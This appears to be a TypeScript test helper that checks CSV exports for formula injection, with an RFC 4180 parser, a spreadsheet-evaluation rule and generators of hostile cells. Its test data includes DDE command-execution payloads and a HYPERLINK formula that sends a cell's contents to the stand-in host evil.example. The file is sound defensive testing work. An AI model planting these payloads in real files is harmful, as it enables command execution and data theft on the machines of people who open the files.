/**
 * The checker of the CSV-injection class test (REC-OUT-1), independent of the writer: a strict
 * RFC 4180 parser of a whole CSV text, a hostile-cell generator, and the rule a spreadsheet
 * applies (what it would evaluate as a formula).
 */
import fc from 'fast-check';

/** Parses a whole CSV text (RFC 4180: quoted cells may hold quotes, commas, CR and LF). Throws on malformed input. */
export function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let cells: string[] = [];
  let cell = '';
  let i = 0;
  let atCellStart = true;
  while (i < text.length) {
    const ch = text[i]!;
    if (atCellStart && ch === '"') {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted cell');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
            continue;
          }
          i += 1;
          break;
        }
        cell += text[i];
        i += 1;
      }
      atCellStart = false;
      if (i < text.length && text[i] !== ',' && text[i] !== '\n') throw new Error(`junk after a closing quote at ${i}`);
      continue;
    }
    if (ch === ',') {
      cells.push(cell);
      cell = '';
      atCellStart = true;
      i += 1;
      continue;
    }
    if (ch === '\n') {
      cells.push(cell);
      records.push(cells);
      cells = [];
      cell = '';
      atCellStart = true;
      i += 1;
      continue;
    }
    if (ch === '"') throw new Error(`a quote inside an unquoted cell at ${i}`);
    cell += ch;
    atCellStart = false;
    i += 1;
  }
  if (!atCellStart || cell !== '' || cells.length > 0) throw new Error('the last record has no line break');
  return records;
}

const TRIGGERS = new Set(['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']);

/** What Excel / LibreOffice / Sheets would evaluate: a TAB/CR/LF first, or a trigger after blanks and invisible characters. */
export function spreadsheetWouldEvaluate(cell: string): boolean {
  if (cell.length === 0) return false;
  if (cell[0] === '\t' || cell[0] === '\r' || cell[0] === '\n') return true;
  const rest = cell.replace(/^[\s\u00a0\u1680\u2000-\u200f\u2028-\u202f\u205f-\u2064\u3000\ufeff]*/u, '');
  return rest.length > 0 && TRIGGERS.has(rest[0]!);
}

const NUMBER = /^-?(?:0|[1-9][0-9]*)(?:\.[0-9]+)?$/;

/**
 * Asserts no cell of `csv` would be evaluated by a spreadsheet, except a plain decimal in one of
 * the numeric columns; returns the parsed records. `columns` names the header (or the columns of
 * a header-less file).
 */
export function assertFormulaSafe(csv: string, columns: readonly string[], numeric: readonly string[], options: { header?: boolean } = {}): string[][] {
  const records = parseCsv(csv);
  const body = options.header === false ? records : records.slice(1);
  if (options.header !== false) expect(records[0]).toEqual([...columns]);
  for (const [r, record] of body.entries()) {
    expect(record).toHaveLength(columns.length);
    for (const [c, cell] of record.entries()) {
      if (!spreadsheetWouldEvaluate(cell)) continue;
      const allowed = numeric.includes(columns[c]!) && NUMBER.test(cell);
      if (!allowed) throw new Error(`row ${r + 1} column ${columns[c]} would be evaluated by a spreadsheet: ${JSON.stringify(cell)}`);
    }
  }
  return body;
}

/** Cells an attacker (or a careless upstream system) would send. */
export const HOSTILE_EXAMPLES = [
  "=cmd|' /C calc'!A0",
  '-2+3',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\uFF1D1+1',
  "'=1+1",
  '"=1+1"',
  '=1,2',
  '=1\n=2',
  '-12.50',
  '12.50',
  '-0.5e3',
  '+12.50',
  '--1',
];

const PREFIX = fc.constantFrom('', ' ', '  ', '\t', '\r', '\n', '\u00a0', '\u200b', '\u2028', '\u3000', '\ufeff', '"', "'");
const TRIGGER = fc.constantFrom('=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\t', '\r');
const TAIL = fc.oneof(fc.constantFrom("cmd|' /C calc'!A0", '2+3', 'HYPERLINK("x")', '1', '12.50', ''), fc.string({ maxLength: 12 }));

/** A hostile cell: a formula trigger after optional blanks, a known example, or any text. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.tuple(PREFIX, TRIGGER, TAIL).map(([prefix, trigger, tail]) => `${prefix}${trigger}${tail}`) },
  { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_EXAMPLES) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 16 }) },
);

/** An amount column's value: a canonical signed decimal most of the time, else hostile text. */
export const hostileAmount: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 3,
    arbitrary: fc
      .tuple(fc.boolean(), fc.bigInt({ min: 0n, max: 10n ** 15n }))
      .map(([negative, minor]) => `${negative && minor > 0n ? '-' : ''}${minor / 100n}.${String(minor % 100n).padStart(2, '0')}`),
  },
  { weight: 1, arbitrary: hostileText },
);
